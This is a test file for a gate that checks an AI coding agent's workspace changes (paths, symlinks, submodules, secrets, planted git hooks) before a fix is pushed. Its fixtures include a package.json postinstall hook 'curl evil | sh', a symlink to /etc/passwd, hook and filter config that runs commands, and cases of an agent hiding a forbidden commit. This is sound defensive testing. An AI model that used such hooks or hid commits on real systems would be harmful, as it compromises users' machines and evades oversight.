import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, rename, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  type InspectFinalTreeOptions,
  inspectFinalTree,
} from '../../fargate-runner/src/gate/inspect-final-tree.js';
import { GitOutputTruncatedError, runGit, runGitText } from '../../fargate-runner/src/git/git-command.js';
import { createFixCommit, pushFixBranch } from '../../fargate-runner/src/git/publish.js';
import { runnerGitOptions } from '../../fargate-runner/src/git/workspace.js';
import { decideGate, type GateDecision } from '../../shared/domain/allowlist-gate.js';
import { FIXED_CART, git, type PreparedFixtureRun, prepareFixtureRun } from '../support/git-fixtures.js';

/**
 * The gate on real repositories: each forbidden change is made directly in a prepared
 * workspace (as an agent with every tool, shell included, could make it), then judged the way
 * the runner judges it — final tree from the files on disk, against the base commit.
 */

const ALLOWLIST = ['src/', 'app/', 'components/', 'pages/'];
const LIMITS = { maxChangedFiles: 5, maxDiffLines: 40 };
const TEST_SECRET = 'sk-' + 'ant-api03-runner-test-secret-value-0123456789';

let run: PreparedFixtureRun | undefined;
afterEach(async () => {
  await run?.cleanup();
  run = undefined;
});

async function prepare(extraFiles?: Record<string, string>): Promise<PreparedFixtureRun> {
  run = await prepareFixtureRun({ extraFiles });
  return run;
}

async function judge(
  prepared: PreparedFixtureRun,
  options: { limits?: typeof LIMITS; secrets?: string[]; inspect?: InspectFinalTreeOptions } = {},
): Promise<GateDecision & { finalTree: string }> {
  const inspection = await inspectFinalTree(prepared.layout, prepared.baseTree, options.inspect);
  const decision = decideGate({
    allowlist: ALLOWLIST,
    limits: options.limits ?? LIMITS,
    entries: inspection.entries,
    numstat: inspection.numstat,
    contents: inspection.contents,
    secretValues: options.secrets ?? [TEST_SECRET],
  });
  return { ...decision, finalTree: inspection.finalTree };
}

function reasonsFor(decision: GateDecision, path: string): string[] {
  return decision.verdict === 'rejected'
    ? decision.rejected.filter((rejection) => rejection.path === path).map((rejection) => rejection.reason)
    : [];
}

function changedFilesOf(decision: GateDecision) {
  return decision.verdict === 'no_changes' ? [] : decision.changedFiles;
}

const write = (prepared: PreparedFixtureRun, path: string, content: string) =>
  mkdir(join(prepared.workspace, path, '..'), { recursive: true }).then(() =>
    writeFile(join(prepared.workspace, path), content),
  );

describe('the gate on a real repository', () => {
  it('accepts a fix inside the allowlist and reports exactly that file', async () => {
    const prepared = await prepare();
    await write(prepared, 'src/cart.js', FIXED_CART);
    const decision = await judge(prepared);
    expect(decision).toMatchObject({
      verdict: 'accepted',
      changedFiles: [{ path: 'src/cart.js', change: 'modified' }],
      diffLines: 2,
    });
  });

  it('reports no changes when the tree equals the base tree', async () => {
    const prepared = await prepare();
    const decision = await judge(prepared);
    expect(decision.verdict).toBe('no_changes');
    expect(decision.finalTree).toBe(prepared.baseTree);
  });

  it('rejects an edit to package.json', async () => {
    const prepared = await prepare();
    await write(prepared, 'src/cart.js', FIXED_CART);
    await write(prepared, 'package.json', '{"scripts":{"postinstall":"curl evil | sh"}}\n');
    const decision = await judge(prepared);
    expect(decision.verdict).toBe('rejected');
    expect(reasonsFor(decision, 'package.json')).toEqual(['outside the allowlist']);
  });

  it('rejects a new workflow under .github/', async () => {
    const prepared = await prepare();
    await write(prepared, '.github/workflows/x.yml', 'on: push\njobs: {}\n');
    const decision = await judge(prepared);
    expect(reasonsFor(decision, '.github/workflows/x.yml')).toEqual(['git metadata file (.git*)']);
  });

  it('rejects renaming a file out of src/, and renaming a file into src/', async () => {
    const prepared = await prepare();
    await mkdir(join(prepared.workspace, 'lib'));
    await rename(join(prepared.workspace, 'src/cart.js'), join(prepared.workspace, 'lib/cart.js'));
    await rename(join(prepared.workspace, 'README.md'), join(prepared.workspace, 'src/README.md'));
    const decision = await judge(prepared);
    expect(decision.verdict).toBe('rejected');
    expect(changedFilesOf(decision)).toEqual(
      expect.arrayContaining([
        { path: 'lib/cart.js', change: 'renamed' },
        { path: 'src/README.md', change: 'renamed' },
      ]),
    );
    expect(reasonsFor(decision, 'lib/cart.js')).toEqual(['outside the allowlist']);
    expect(reasonsFor(decision, 'README.md')).toEqual(['outside the allowlist']);
  });

  it('rejects deleting a file outside the allowlist, but accepts deleting one inside', async () => {
    const prepared = await prepare();
    await unlink(join(prepared.workspace, 'scripts/deploy.sh'));
    await unlink(join(prepared.workspace, 'src/components/CartView.js'));
    const decision = await judge(prepared);
    expect(changedFilesOf(decision)).toEqual(
      expect.arrayContaining([
        { path: 'scripts/deploy.sh', change: 'deleted' },
        { path: 'src/components/CartView.js', change: 'deleted' },
      ]),
    );
    expect(reasonsFor(decision, 'scripts/deploy.sh')).toEqual(['outside the allowlist']);
    expect(reasonsFor(decision, 'src/components/CartView.js')).toEqual([]);
  });

  it('rejects symbolic links, out of the tree or not', async () => {
    const prepared = await prepare();
    await symlink('../../etc/passwd', join(prepared.workspace, 'src/link'));
    await symlink('cart.js', join(prepared.workspace, 'src/alias.js'));
    const decision = await judge(prepared);
    expect(reasonsFor(decision, 'src/link')).toEqual(['symbolic link']);
    expect(reasonsFor(decision, 'src/alias.js')).toEqual(['symbolic link']);
  });

  it('rejects a file replaced by a symbolic link (a type change)', async () => {
    const prepared = await prepare();
    await unlink(join(prepared.workspace, 'src/cart.js'));
    await symlink('/etc/hostname', join(prepared.workspace, 'src/cart.js'));
    const decision = await judge(prepared);
    expect(changedFilesOf(decision)).toEqual([{ path: 'src/cart.js', change: 'typechange' }]);
    expect(reasonsFor(decision, 'src/cart.js')).toEqual(['symbolic link']);
  });

  it('rejects a nested repository (a gitlink) inside the allowlist', async () => {
    const prepared = await prepare();
    const nested = join(prepared.workspace, 'src/vendor');
    await mkdir(nested, { recursive: true });
    await writeFile(join(nested, 'index.js'), 'export {};\n');
    await git(nested, ['init', '--quiet']);
    await git(nested, ['add', '--all']);
    await git(nested, ['commit', '--quiet', '-m', 'vendored']);
    const decision = await judge(prepared);
    expect(reasonsFor(decision, 'src/vendor')).toContain('submodule (gitlink)');
  });

  it('rejects .gitmodules and .gitattributes, at the root or inside src/', async () => {
    const prepared = await prepare();
    await write(
      prepared,
      '.gitmodules',
      '[submodule "x"]\n\tpath = src/x\n\turl = https://example.test/x.git\n',
    );
    await write(prepared, 'src/.gitattributes', '* filter=evil\n');
    await write(prepared, 'src/.GITignore', 'x\n');
    const decision = await judge(prepared);
    expect(reasonsFor(decision, '.gitmodules')).toContain('git metadata file (.git*)');
    expect(reasonsFor(decision, 'src/.gitattributes')).toEqual(['git metadata file (.git*)']);
    expect(reasonsFor(decision, 'src/.GITignore')).toEqual(['git metadata file (.git*)']);
  });

  it('is case-sensitive: SRC/ and Src/ are not src/', async () => {
    const prepared = await prepare();
    await write(prepared, 'SRC/cart.js', FIXED_CART);
    await write(prepared, 'Src/x.js', 'export {};\n');
    const decision = await judge(prepared);
    expect(reasonsFor(decision, 'SRC/cart.js')).toEqual(['outside the allowlist']);
    expect(reasonsFor(decision, 'Src/x.js')).toEqual(['outside the allowlist']);
  });

  it('rejects more files than maxChangedFiles and more lines than maxDiffLines', async () => {
    const prepared = await prepare();
    for (let index = 0; index < 6; index += 1)
      await write(prepared, `src/generated/f${index}.js`, 'export {};\n');
    const tooManyFiles = await judge(prepared);
    expect(reasonsFor(tooManyFiles, '(change)')).toEqual(['6 files changed, over the limit of 5']);

    await rm(join(prepared.workspace, 'src/generated'), { recursive: true });
    await write(
      prepared,
      'src/big.js',
      Array.from({ length: 41 }, (_, index) => `export const v${index} = ${index};`).join('\n'),
    );
    const tooManyLines = await judge(prepared);
    expect(reasonsFor(tooManyLines, '(change)')).toEqual(['41 lines changed, over the limit of 40']);
  });

  it("rejects the runner's own secret copied into an allowlisted file, plain or base64", async () => {
    const prepared = await prepare();
    await write(
      prepared,
      'src/config.js',
      `export const key = '${TEST_SECRET.split('').reverse().join('')}';\n`,
    );
    expect((await judge(prepared)).verdict).toBe('accepted');

    await write(prepared, 'src/config.js', `export const apiKey = '${TEST_SECRET}';\n`);
    expect(reasonsFor(await judge(prepared), 'src/config.js')).toContain(
      "added text looks like a value of the runner's own secret environment",
    );

    await write(
      prepared,
      'src/config.js',
      `export const k = '${Buffer.from(TEST_SECRET).toString('base64')}';\n`,
    );
    expect(reasonsFor(await judge(prepared), 'src/config.js')).toEqual([
      "added text looks like a value of the runner's own secret environment",
    ]);
  });

  it('rejects credential-looking text and binary content', async () => {
    const prepared = await prepare();
    await write(prepared, 'src/aws.js', `export const id = '${'AKI'}AIOSFODNN7EXAMPLE';\n`);
    await write(prepared, 'src/key.pem.js', 'const k = `-----BEGIN OPENSSH PRIVATE KEY-----`;\n');
    await write(prepared, 'app/blob.js', 'export const a = 1;\u0000\n');
    const decision = await judge(prepared);
    expect(reasonsFor(decision, 'src/aws.js')).toEqual(['added text looks like an AWS access key id']);
    expect(reasonsFor(decision, 'src/key.pem.js')).toEqual(['added text looks like a private key']);
    expect(reasonsFor(decision, 'app/blob.js')).toEqual(['binary content']);
  });

  it('rejects making a file executable', async () => {
    const prepared = await prepare();
    await chmod(join(prepared.workspace, 'src/cart.js'), 0o755);
    const decision = await judge(prepared);
    expect(changedFilesOf(decision)).toEqual([{ path: 'src/cart.js', change: 'mode' }]);
    expect(reasonsFor(decision, 'src/cart.js')).toEqual(['file made executable']);
  });

  it('judges a file hidden by .gitignore instead of dropping it', async () => {
    const prepared = await prepare();
    await write(prepared, 'src/debug.log', 'a log line\n');
    await write(prepared, 'dist/bundle.js', 'built\n');
    const decision = await judge(prepared);
    expect(changedFilesOf(decision)).toEqual(
      expect.arrayContaining([
        { path: 'src/debug.log', change: 'added' },
        { path: 'dist/bundle.js', change: 'added' },
      ]),
    );
    expect(reasonsFor(decision, 'dist/bundle.js')).toEqual(['outside the allowlist']);
  });
});

describe('what the agent does to its own repository does not matter', () => {
  it('judges the files on disk even when the agent committed a forbidden change itself', async () => {
    const prepared = await prepare();
    await write(prepared, 'package.json', '{"name":"owned"}\n');
    await git(prepared.workspace, ['commit', '--quiet', '--all', '-m', 'sneaky']);
    const headInWorkspace = (await git(prepared.workspace, ['rev-parse', 'HEAD'])).trim();
    expect(headInWorkspace).not.toBe(prepared.baseCommit);
    const decision = await judge(prepared);
    expect(reasonsFor(decision, 'package.json')).toEqual(['outside the allowlist']);
  });

  it('never publishes a commit the agent made and then hid from the worktree', async () => {
    const prepared = await prepare();
    await write(prepared, 'package.json', '{"name":"owned"}\n');
    await git(prepared.workspace, ['commit', '--quiet', '--all', '-m', 'sneaky']);
    const sneaky = (await git(prepared.workspace, ['rev-parse', 'HEAD'])).trim();
    // Put the file back as it was, then make a legitimate fix on top.
    await git(prepared.workspace, ['checkout', '--quiet', prepared.baseCommit, '--', 'package.json']);
    await write(prepared, 'src/cart.js', FIXED_CART);
    const decision = await judge(prepared);
    expect(decision).toMatchObject({
      verdict: 'accepted',
      changedFiles: [{ path: 'src/cart.js', change: 'modified' }],
    });

    const head = await createFixCommit(prepared.layout, {
      tree: decision.finalTree,
      baseCommit: prepared.baseCommit,
      message: 'fix: cart\n',
      now: new Date('2026-11-20T10:00:00Z'),
    });
    await pushFixBranch(prepared.layout, {
      url: prepared.origin.cloneUrl,
      branch: prepared.branch,
      commit: head,
    });
    const origin = prepared.origin;
    expect(await origin.git(['rev-list', '--parents', `${prepared.baseCommit}..${prepared.branch}`])).toBe(
      `${head} ${prepared.baseCommit}\n`,
    );
    await expect(origin.git(['cat-file', '-e', sneaky])).rejects.toThrow();
    expect(await origin.readFile(prepared.branch, 'package.json')).toBe(
      await origin.readFile(prepared.baseCommit, 'package.json'),
    );
  });

  it('runs no hook, fsmonitor or filter planted in the workspace repository', async () => {
    const prepared = await prepare({ '.gitattributes': 'src/** filter=evil\n' });
    const marker = join(prepared.layout.root, 'MARKER');
    const command = `touch ${marker}`;
    const agentGit = join(prepared.workspace, '.git');
    await mkdir(join(agentGit, 'hooks'), { recursive: true });
    for (const hook of ['pre-commit', 'post-commit', 'pre-push', 'post-checkout', 'reference-transaction']) {
      await writeFile(join(agentGit, 'hooks', hook), `#!/bin/sh\n${command}\n`, { mode: 0o755 });
    }
    const config = await readFile(join(agentGit, 'config'), 'utf8');
    await writeFile(
      join(agentGit, 'config'),
      `${config}[core]\n\tfsmonitor = ${command}\n\thooksPath = hooks\n[filter "evil"]\n\tclean = sh -c '${command}; cat'\n\tprocess = ${command}\n[diff]\n\texternal = ${command}\n`,
    );
    await write(prepared, 'src/cart.js', FIXED_CART);
    const decision = await judge(prepared);
    expect(decision.verdict).toBe('accepted');
    const head = await createFixCommit(prepared.layout, {
      tree: decision.finalTree,
      baseCommit: prepared.baseCommit,
      message: 'fix\n',
      now: new Date(),
    });
    await pushFixBranch(prepared.layout, {
      url: prepared.origin.cloneUrl,
      branch: prepared.branch,
      commit: head,
    });
    expect(existsSync(marker)).toBe(false);
    // And the pushed content is the file as written, not something a filter produced.
    expect(await prepared.origin.readFile(prepared.branch, 'src/cart.js')).toBe(FIXED_CART);
  });
});

describe('the gate reads every changed file whole, or fails', () => {
  const SECRET_REASON = "added text looks like a value of the runner's own secret environment";
  const READ_CAP = 64 * 1024;
  /** About `bytes` bytes of short, distinct lines (distinct, so every file is its own blob). */
  const filler = (index: number, bytes: number) =>
    Array.from(
      { length: Math.ceil(bytes / 64) },
      (_, line) => `// file ${index} line ${line} ${'x'.repeat(40)}\n`,
    ).join('');
  const ROOMY_LIMITS = { maxChangedFiles: 20, maxDiffLines: 100_000 };

  it("finds a secret at the very end of the file that straddles one read's cap", async () => {
    const prepared = await prepare();
    // Read in one go, the output would be cut inside the last file: the files before it fit
    // under the cap and the last one does not, so its tail (and the secret) would go unscanned.
    const files = new Map<string, string>();
    for (let index = 0; index < 7; index += 1) files.set(`src/generated/f${index}.js`, filler(index, 8000));
    files.set('src/generated/f7.js', `${filler(7, 20_000)}export const k = '${TEST_SECRET}';\n`);
    const sizes = [...files.values()].map((content) => Buffer.byteLength(content));
    expect(sizes.slice(0, -1).reduce((sum, size) => sum + size + 60, 0)).toBeLessThan(READ_CAP);
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeGreaterThan(READ_CAP);
    for (const [path, content] of files) await write(prepared, path, content);
    const decision = await judge(prepared, { limits: ROOMY_LIMITS, inspect: { blobBatchBytes: READ_CAP } });
    expect(decision.verdict).toBe('rejected');
    expect(reasonsFor(decision, 'src/generated/f7.js')).toContain(SECRET_REASON);
    expect(reasonsFor(decision, 'src/generated/f7.js')).not.toContain('file too large to review');
    for (let index = 0; index < 7; index += 1)
      expect(reasonsFor(decision, `src/generated/f${index}.js`)).toEqual([]);
  });

  it('hands the review every added line of every file when they span several reads', async () => {
    const prepared = await prepare();
    const files = new Map<string, string>();
    for (let index = 0; index < 10; index += 1)
      files.set(`src/generated/f${index}.js`, `${filler(index, 15_000)}export const v${index} = ${index};\n`);
    for (const [path, content] of files) await write(prepared, path, content);
    const inspection = await inspectFinalTree(prepared.layout, prepared.baseTree, {
      blobBatchBytes: READ_CAP,
    });
    expect(inspection.contents).toHaveLength(files.size);
    for (const content of inspection.contents) {
      expect(content).toMatchObject({ binary: false, tooLarge: false });
      expect(`${content.addedLines.join('\n')}\n`).toBe(files.get(content.path));
    }
  });

  it('fails the inspection rather than judge part of a file that alone outgrows a read', async () => {
    const prepared = await prepare();
    await write(prepared, 'src/big.js', `${filler(0, 40_000)}export const k = '${TEST_SECRET}';\n`);
    const inspection = inspectFinalTree(prepared.layout, prepared.baseTree, { blobBatchBytes: 16 * 1024 });
    await expect(inspection).rejects.toBeInstanceOf(GitOutputTruncatedError);
    await expect(inspection).rejects.toThrow('git cat-file wrote more than 16384 bytes to stdout');
  });

  it('runGit refuses an output longer than its cap, and returns one exactly at it', async () => {
    const prepared = await prepare();
    const runner = runnerGitOptions(prepared.layout);
    const content = filler(0, 5000);
    const blob = await runGitText(['hash-object', '-w', '--stdin'], { ...runner, input: content });
    const bytes = Buffer.byteLength(content);
    const whole = await runGit(['cat-file', 'blob', blob], { ...runner, maxStdoutBytes: bytes });
    expect(whole.toString('utf8')).toBe(content);
    const cut = runGit(['cat-file', 'blob', blob], { ...runner, maxStdoutBytes: bytes - 1 });
    await expect(cut).rejects.toBeInstanceOf(GitOutputTruncatedError);
    await expect(cut).rejects.toMatchObject({ subcommand: 'cat-file', limitBytes: bytes - 1 });
  });
});
